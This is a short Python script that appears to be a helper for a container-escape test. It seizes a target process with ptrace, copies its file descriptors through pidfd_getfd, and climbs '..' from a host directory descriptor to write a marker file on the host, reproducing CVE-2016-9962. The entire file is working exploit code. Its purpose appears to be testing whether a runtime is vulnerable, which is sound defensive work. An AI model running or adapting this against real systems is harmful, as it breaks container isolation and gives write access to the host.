"""Run inside a container (see test_escape_runtime_exe.py): ptrace attack on a pid.

    python3 attack.py PID HOST_PATH

PTRACE_SEIZE the process (prints "SEIZE ok" or the error), take each of its
fds 0-63 with pidfd_getfd (the same permission as the seize), and from any
directory among them walk `..` forty times and create HOST_PATH there: the
CVE-2016-9962 escape through a runtime process's fd of a host directory.
Prints "ESCAPED via fd N" if that worked, "END" when done.
"""
import ctypes, os, sys, stat
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
target, marker = int(sys.argv[1]), sys.argv[2]
r = libc.ptrace(PTRACE_SEIZE, target, 0, 0)
print("SEIZE", "ok" if r == 0 else os.strerror(ctypes.get_errno()), flush=True)
try:
    pidfd = os.pidfd_open(target)
except OSError as e:
    print("PIDFD", e.strerror); sys.exit(0)
for n in range(64):
    fd = libc.syscall(438, pidfd, n, 0)
    if fd < 0:
        if ctypes.get_errno() != 9: print("GETFD", n, os.strerror(ctypes.get_errno()))
        continue
    st = os.fstat(fd)
    print("FD", n, oct(st.st_mode), os.readlink(f"/proc/self/fd/{fd}"), flush=True)
    if stat.S_ISDIR(st.st_mode):
        up = fd
        for _ in range(40):
            up = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=up)
        try:
            w = os.open(marker.lstrip("/"), os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=up)
            os.write(w, b"escaped\n"); print("ESCAPED via fd", n, flush=True)
        except OSError as e:
            print("WRITE", e.strerror)
if r == 0:
    libc.ptrace(PTRACE_DETACH, target, 0, 0)
print("END")
